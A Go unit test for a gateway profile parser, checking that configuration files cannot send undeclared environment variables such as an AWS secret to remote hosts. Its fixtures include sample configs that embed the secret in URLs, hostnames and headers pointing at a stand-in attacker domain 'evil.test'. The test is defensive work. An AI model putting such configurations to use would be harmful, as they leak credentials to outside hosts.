package profile

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A stranger's profile sends no variable that it does not declare, wherever it would send it.
func TestVariablesThatAreSentAreDeclared(t *testing.T) {
	t.Parallel()
	vars := environment(map[string]string{"AWS": "aws-secret", "GATEWAY_KEY": "sk-1"})
	const asks = "the variable AWS would be sent to the gateway: if you intend this, declare it with env: [AWS]"
	for _, text := range []string{
		"base_url: \"http://evil.test/${AWS}\"", "base_url: \"http://${AWS}.evil.test\"",
		"base_url: http://a\nprefix: /${AWS}", "base_url: http://a\nprefix: {chat: \"/${AWS}\"}",
		"base_url: http://a\nmodels: {default: \"${AWS}\"}", "base_url: http://a\nmodels: {relay: [\"${AWS}\"]}",
		"base_url: http://a\nheaders: {x: \"${AWS}\"}", "base_url: http://a\nheaders: {\"x-${AWS}\": y}", "base_url: http://a\nsurface_headers: {chat: {x: \"${AWS:-default}\"}}",
		"base_url: http://a\nbalance: {path: \"/${AWS}\", field: x}", "base_url: http://a\nupstream: {attach: \"http://a/${AWS}\"}",
		"base_url: http://a\nlimits: {rate: {model: \"${AWS}\", requests: 1}}",
		"base_url: http://a\ncircumstances: {sensitive-content: {model: \"${AWS}\"}}", "base_url: http://a\ncircumstances: {sensitive-content: {prompt: \"${AWS}\"}}",
		"base_url: http://a\ncircumstances: {sensitive-content: {path: \"/${AWS}\"}}", "base_url: http://a\ncircumstances: {sensitive-content: {headers: {x: \"${AWS}\"}}}",
		"base_url: http://a\ncircumstances: {sensitive-content: {body: {a: [{b: \"x ${AWS}\"}]}}}", "base_url: http://a\ncircumstances: {sensitive-content: {body: {\"a.${AWS}\": 1}}}",
		"base_url: http://a\ncircumstances: {sensitive-content: {on: {chat: {body: {a: \"${AWS}\"}}}}}", "base_url: http://a\ncircumstances: {sensitive-content: {directive: \"${AWS}\"}}",
		"base_url: http://a\nname: &n \"${AWS}\"\ncircumstances: {sensitive-content: {prompt: *n}}",
	} {
		_, err := Parse("p.yaml", []byte(text+"\n"), vars)
		assert.ErrorContains(t, err, asks, text)
		_, err = Parse("p.yaml", []byte(text+"\nenv: [AWS]\n"), vars)
		assert.NotContains(t, errorText(err), "would be sent", text)
	}
	for _, text := range []string{
		"keys: {valid: \"${GATEWAY_KEY}\"}\nheaders: {x-key: \"${GATEWAY_KEY}\"}", "name: \"${AWS}\"\nversion: \"${AWS}\"", "circumstances: {denied-access: {key: \"${AWS}\"}}",
		"store: {postgres: \"postgres://u:${AWS}@db/x\"}", "upstream: {listen: \"127.0.0.1:${AWS:-9901}\"}",
		"circumstances: {gateway-error: {before: [{run: \"echo ${AWS}\"}]}}", // needs consent
	} {
		_, err := Parse("p.yaml", []byte("base_url: http://a\n"+text+"\n"), vars)
		require.NoError(t, err, text)
	}
	_, err := Parse("p.yaml", []byte("base_url: http://a\nname: x\nheaders:\n  x: \"${AWS}\"\n"), vars)
	assert.EqualError(t, err, "p.yaml:4:6: "+asks)
}

func errorText(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}
